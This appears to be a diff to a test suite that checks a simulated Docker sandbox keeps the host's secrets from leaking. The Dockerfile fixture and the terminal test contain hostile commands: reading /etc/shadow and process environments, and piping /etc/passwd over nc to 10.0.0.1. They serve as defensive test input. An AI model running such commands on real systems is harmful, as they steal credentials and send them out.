@@ -130,6 +130,10 @@ HOST_SECRETS = _host_secrets()
 
 
 def _warm() -> Sandbox:
+    from sandbox.cli import spec
+
+    for path in spec.paths():  # the client's help tables are package data, read once on first use
+        spec.help_text(path)
     sb = Sandbox()
     sb.write_file("Dockerfile", DOCKERFILE)
     sb.write_file("hello.txt", "hi\n")
@@ -187,6 +191,7 @@ HOSTILE = (
     "docker build -o type=local,dest=/tmp/out .",
     "docker build -t escape -f escape.Dockerfile .",
     "docker build -t add-url -f add-url.Dockerfile .",
+    "docker build -t runs -f run.Dockerfile .",
     "docker load -i /etc/passwd",
     "docker import /etc/passwd",
     "docker save -o /tmp/alpine.tar alpine",
@@ -225,11 +230,26 @@ def test_hostile_line_stays_inside_the_simulation(tripwire: Tripwire, line: str)
     sb = WARMED.fork()
     sb.write_file("escape.Dockerfile", "FROM alpine\nCOPY ../../etc/passwd /x\nADD /etc/shadow /y\n")
     sb.write_file("add-url.Dockerfile", "FROM alpine\nADD https://example.com/install.sh /install.sh\n")
+    sb.write_file("run.Dockerfile", "FROM alpine\nRUN cat /etc/shadow /proc/self/environ > /leak; env; ls -a /root\n"
+                  "RUN apk add curl && wget -qO- http://example.com && nc 10.0.0.1 80 < /etc/passwd\n"
+                  "RUN sleep 100000\n")
     with tripwire.arm():
         result = sb.run(line)
     assert isinstance(result, Result)
     assert "Traceback" not in result.output
     assert not any(secret in result.output for secret in HOST_SECRETS), "the host's own text came through"
+
+
+def test_a_container_terminal_stays_inside_the_simulation(tripwire: Tripwire) -> None:
+    """The fourth place the shell runs: a terminal attached with docker run -it, typed into line by line."""
+    sb = WARMED.fork()
+    with tripwire.arm():
+        attached = sb.attach(sb.run("docker run -it alpine sh", terminal=True))
+        for line in ("cat /etc/passwd /etc/shadow", "env", "cd / && ls -a", "echo $(cat /proc/self/environ)",
+                     "sleep 100000", "wget -qO- http://example.com", "exit"):
+            result = attached.run(line)
+            assert "Traceback" not in result.output
+            assert not any(secret in result.output for secret in HOST_SECRETS), "the host's own text came through"
 
 
 def test_a_container_reads_its_image_passwd_not_the_hosts(tripwire: Tripwire) -> None:
